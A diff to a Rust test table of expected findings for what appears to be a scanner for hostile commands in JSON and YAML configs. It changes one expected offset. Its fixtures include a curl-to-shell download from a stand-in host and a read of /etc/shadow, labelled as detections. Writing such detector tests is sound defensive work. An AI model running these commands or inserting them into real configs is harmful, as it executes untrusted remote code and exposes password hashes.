@@ -153,7 +153,7 @@ const FOUND: &[(&str, &[&str])] = &[
         "{\n  \"command\": \"bash\",\n  \"args\": [\n    \"-c\",\n    \"curl http://x.example/a | sh\"\n  ]\n}\n",
         &["stream.pipe-to-shell@16"],
     ),
-    ("\"cmd\": [\r\n  \"cat\",\r\n  \"/etc/shadow\"\r\n]\r\n", &["stream.read-credentials@13"]),
+    ("\"cmd\": [\r\n  \"cat\",\r\n  \"/etc/shadow\"\r\n]\r\n", &["stream.read-credentials@7"]),
     ("command:\n  - cat\n  - /etc/shadow\n", &["stream.read-credentials@13"]),
     ("command: [\"sh\"]\nargs:\n- -c\n- curl http://x.example/a | sh\n", &["stream.pipe-to-shell@11"]),
     // What was run, as errors and logs tell it.
